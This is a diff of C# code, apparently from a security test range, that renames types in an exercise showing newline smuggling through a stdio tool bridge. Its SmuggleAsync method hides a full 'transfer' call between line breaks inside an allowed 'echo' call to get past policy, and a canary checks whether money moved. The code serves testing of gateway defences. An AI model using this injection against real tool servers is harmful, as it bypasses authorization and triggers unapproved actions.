@@ -23,7 +23,7 @@ public abstract class NewlineSmuggling : Exercise
     public override string Protection => "stage forward, line framing of stdio";
 
     /// <inheritdoc />
-    public override Story Story { get; } = new(
+    public override ExerciseSteps ExerciseSteps { get; } = new(
         "On stdio each line is a message. A bridge from HTTP writes the received body unchanged, and JSON may have line breaks between its tokens.",
         "Mallory calls echo, which is permitted, with an argument that is a whole call of transfer on a line of its own. The policy sees one call "
             + "of echo. The server sees a call of transfer between two lines that it cannot read.",
@@ -33,34 +33,34 @@ public abstract class NewlineSmuggling : Exercise
 
     internal override IReadOnlyList<PolicyRule> Rules => [Policies.EchoAlone];
 
-    internal abstract string[] Command(Bed bed);
+    internal abstract string[] Command(RangeFixture fixture);
 
-    internal override Task<Uri> StartUnguardedAsync(Bed bed) => NaiveBridge.StartAsync(bed, Command(bed));
+    internal override Task<Uri> StartUnguardedAsync(RangeFixture fixture) => NaiveBridge.StartAsync(fixture, Command(fixture));
 
-    internal override Task<ServerSettings> StartBehindGatewayAsync(Bed bed) => Task.FromResult(Upstream.Stdio(Command(bed)));
+    internal override Task<ServerSettings> StartBehindGatewayAsync(RangeFixture fixture) => Task.FromResult(Upstream.Stdio(Command(fixture)));
 
-    internal override PartReplacements Replace(Bed bed) => PartReplacements.None
+    internal override PartReplacements Replace(RangeFixture fixture) => PartReplacements.None
         .Put(PartNames.Authorize, new AuthorizeStage(new BlankCatalogue()))
         .Put(PartNames.Framing, RawLines.Write);
 
-    internal override async Task<IReadOnlyList<Attempt>> ExploitAsync(Scene scene) =>
+    internal override async Task<IReadOnlyList<Attempt>> ExploitAsync(AttackContext context) =>
     [
-        await SmuggleAsync(scene, "line feed", "\n").ConfigureAwait(false),
-        await SmuggleAsync(scene, "carriage return and line feed", "\r\n").ConfigureAwait(false),
+        await SmuggleAsync(context, "line feed", "\n").ConfigureAwait(false),
+        await SmuggleAsync(context, "carriage return and line feed", "\r\n").ConfigureAwait(false),
     ];
 
-    internal override Task<bool> UseHonestlyAsync(Scene scene) => Honest.EchoesAsync(scene);
+    internal override Task<bool> UseHonestlyAsync(AttackContext context) => Honest.EchoesAsync(context);
 
-    private static async Task<Attempt> SmuggleAsync(Scene scene, string name, string lineBreak)
+    private static async Task<Attempt> SmuggleAsync(AttackContext context, string name, string lineBreak)
     {
-        var amount = $"{name} {scene.Canary.Secret}";
-        var client = scene.As(Scene.Attacker);
+        var amount = $"{name} {context.Canary.Secret}";
+        var client = context.As(AttackContext.Attacker);
         await client.InitializeAsync().ConfigureAwait(false);
         client.Patience = TimeSpan.FromSeconds(2);
         var nested = client.CallBody("transfer", new { amount });
         var body = client.Body("tools/call", "{\"name\":\"echo\",\"arguments\":{\"text\":\"x\",\"more\":" + lineBreak + nested + lineBreak + "}}");
         var reply = await client.PostAsync(body).ConfigureAwait(false);
-        var moved = await scene.Canary.SingsAsync("transfer " + amount).ConfigureAwait(false);
+        var moved = await context.Canary.SingsAsync("transfer " + amount).ConfigureAwait(false);
         return new Attempt(name, moved, moved ? "money moved" : $"nothing moved: {reply.Summary()}");
     }
 }
